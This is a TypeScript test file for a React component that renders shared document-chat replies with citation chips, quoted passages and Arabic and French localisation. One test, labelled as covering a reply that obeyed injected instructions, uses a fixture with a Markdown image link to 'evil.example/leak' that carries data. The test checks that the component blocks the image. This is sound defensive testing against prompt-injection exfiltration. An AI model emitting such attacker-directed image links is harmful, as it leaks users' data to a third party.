import type { DocumentCitation } from "@nexus/contracts";
import { render, screen, within } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import { activateLocale } from "@/lib/i18n/i18n.ts";
import { isDocumentReply, SharedDocumentReply } from "./shared-document-reply.tsx";

const FILE_ID = "0b6e3b0e-6d1e-4a53-9a57-3d2f7c1a9e10";
const cite = (marker: number, page: number, quote: string, verified = true): DocumentCitation => ({
  marker,
  source: page,
  fileId: FILE_ID,
  ordinal: page,
  label: `Page ${page}`,
  quote,
  verified,
  match: verified ? "exact" : "none",
  ranges: verified ? [{ page, start: 0, end: quote.length }] : [],
});

const PARTS = [
  {
    type: "text",
    text: 'Loops are **traced** [1: "Trace trees"] and compiled [2: "nested trees"] [1].\n\n- one [1, 2]\n- two',
  },
  {
    type: "data-citations",
    data: [cite(0, 1, "Trace trees"), cite(1, 2, "nested trees", false), cite(2, 1, "Trace trees")],
  },
];

describe("a shared document chat reply", () => {
  it("shows the answer with chips and each cited passage once (label and quote), never a file link", async () => {
    expect(isDocumentReply(PARTS)).toBe(true);
    expect(isDocumentReply([{ type: "text", text: "x" }])).toBe(false);
    const { container } = render(<SharedDocumentReply parts={PARTS} id="t0" />);
    const text = screen.getByTestId("document-reply-text");
    // Before the renderer has loaded (if it is not in yet): the text as it reads, markers as [n].
    const fallback = text.querySelector('[data-testid="answer-markdown-fallback"]');
    if (fallback)
      expect(fallback.textContent).toContain("Loops are **traced** [1] and compiled [2] [1].");
    // Then Markdown (bold, a list), each marker a chip; a group that is no marker stays plain numbers.
    await screen.findAllByTestId("document-citation");
    expect(text.querySelector("strong")?.textContent).toBe("traced");
    expect(
      within(text)
        .getAllByRole("listitem")
        .map((li) => li.textContent),
    ).toEqual(["one [1][2]", "two"]);
    expect(text.querySelector("p")?.textContent).toBe(
      "Loops are traced 1 and compiled 2passage not found 1.",
    );
    expect(screen.getAllByTestId("shared-document-passage").map((p) => p.textContent)).toEqual([
      "Page 1“Trace trees”",
      "Page 2passage not found“nested trees”",
    ]);
    expect(container.querySelectorAll("a")).toHaveLength(0);
    expect(container.innerHTML).not.toContain(FILE_ID);
  });
});

describe("a shared chat over several files", () => {
  it("names each cited file as the author saw it, keeps same-labelled passages of two files apart, and links nowhere", async () => {
    // As a share gives them: file ids blanked, file names kept.
    const of = (marker: number, fileName: string, quote: string): DocumentCitation => ({
      ...cite(marker, 1, quote),
      fileId: "",
      fileName,
    });
    const parts = [
      { type: "text", text: 'Both open so [1: "Document 1"] and [2: "Trace trees"].' },
      {
        type: "data-citations",
        data: [of(0, "report.pdf", "Document 1"), of(1, "paper.pdf", "Trace trees")],
      },
    ];
    const scrolled: string[] = [];
    // jsdom has no scrolling: record which element a chip scrolls into view.
    Element.prototype.scrollIntoView = function (this: Element) {
      scrolled.push(this.id);
    };
    const { container } = render(<SharedDocumentReply parts={parts} id="t2" />);
    const chips = await screen.findAllByTestId("document-citation");
    expect(screen.getAllByTestId("shared-document-passage").map((p) => p.textContent)).toEqual([
      "report.pdf · Page 1“Document 1”",
      "paper.pdf · Page 1“Trace trees”",
    ]);
    // A chip is a button that scrolls to its passage on this page: no link, no viewer address.
    chips[1]?.click();
    expect(scrolled).toEqual(["t2-passage-1"]);
    expect(container.querySelectorAll("a")).toHaveLength(0);
    expect(container.innerHTML).not.toMatch(/document-chat|pdf-chat|\/api\/files/);
    Reflect.deleteProperty(Element.prototype, "scrollIntoView");
  });
});

describe("a document reply that obeyed injected instructions (G14)", () => {
  it("loads no image from the address the document asked for: a chip names it", async () => {
    const parts = [
      { type: "text", text: "Done ![x](https://evil.example/leak?d=7491) [1]" },
      { type: "data-citations", data: [cite(0, 1, "Trace trees")] },
    ];
    const { container } = render(<SharedDocumentReply parts={parts} id="t1" />);
    await screen.findAllByTestId("document-citation");
    expect(container.querySelector("img")).toBeNull();
    expect(container.querySelector("[data-blocked-image]")?.textContent).toContain("evil.example");
  });
});

describe("a shared document chat reply in another language", () => {
  it("labels each passage and quotes it in Arabic and French, the quote isolated in its own direction", async () => {
    try {
      await activateLocale("ar");
      const { unmount } = render(<SharedDocumentReply parts={PARTS} id="t3" />);
      const passages = screen.getAllByTestId("shared-document-passage");
      expect(passages.map((p) => p.textContent)).toEqual([
        "الصفحة 1«Trace trees»",
        "الصفحة 2لم يُعثر على المقطع«nested trees»",
      ]);
      // The English quote sits in a <bdi> between Arabic marks: « on its right, » on its left.
      const quote = passages[0]?.querySelector("blockquote");
      expect(quote?.querySelector("bdi")?.textContent).toBe("Trace trees");
      expect(quote?.firstChild?.textContent).toBe("«");
      expect(quote?.lastChild?.textContent).toBe("»");
      unmount();
      await activateLocale("fr");
      render(<SharedDocumentReply parts={PARTS} id="t4" />);
      expect(screen.getAllByTestId("shared-document-passage").map((p) => p.textContent)).toEqual([
        "Page 1« Trace trees »",
        "Page 2passage introuvable« nested trees »",
      ]);
    } finally {
      await activateLocale("en");
    }
  });
});
